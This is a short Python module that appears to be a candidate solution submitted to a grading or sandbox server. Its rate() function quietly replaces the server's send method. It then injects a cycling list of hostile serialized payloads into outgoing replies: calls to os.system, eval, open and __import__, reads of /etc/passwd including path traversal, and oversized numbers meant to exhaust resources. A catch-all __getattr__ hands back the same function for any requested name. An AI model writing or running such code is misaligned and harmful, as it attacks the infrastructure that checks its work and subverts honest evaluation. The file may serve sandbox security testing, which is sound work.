import itertools
import sys

_module = sys.modules["_candidate.server"]
_plain = _module.Server.send
_NODES = itertools.cycle(
    [
        ["cb", 0], ["cb", -1], ["cb", 10**9], ["@", 0], ["module", "os"], ["module", "solution"],
        ["object", -1, ["kind", "builtins", "int", []], 250], ["object", 1, ["kind", "a", "b", []], 1],
        ["object", ["os", "system"], ["kind", "builtins", "function", ["__call__"]], None],
        ["object", 7, ["kind", "unittest.mock", "_ANY", ["__eq__"]], None],
        ["object", 8, ["kind", "builtins", "bool", []], None], ["builtin", "eval"], ["builtin", "open"],
        ["builtin", "__import__"], ["std", "os", "system"], ["given", "os", "system"], ["exc", 0],
        ["class", 99], ["class", ["solution", "rate"]], ["int", "f" * 250_000], ["int", "-"],
        ["decimal", "1E+999999999"], ["decimal", "sNaN"], ["range", 0, 10**30, 1], ["path", "/etc/passwd"],
        ["timezone", ["zone", "../../etc/passwd"]], ["fraction", 1, 0], ["slice"], ["deque", -5, 1],
        ["datetime", "9999-12-31T23:59:59", 0, ["offset", -1, 1, 0]], ["dict", 1], ["dict", ["list"], 1],
    ]
)


def _send(self, message):
    if message[0] == "ok" and len(message) == 6:
        message = [*message[:2], next(_NODES), *message[3:]]
    _plain(self, message)


def rate(weight):
    _module.Server.send = _send
    return 1


_answer = rate


def __getattr__(name):
    if name.startswith("__"):
        raise AttributeError(name)
    return _answer
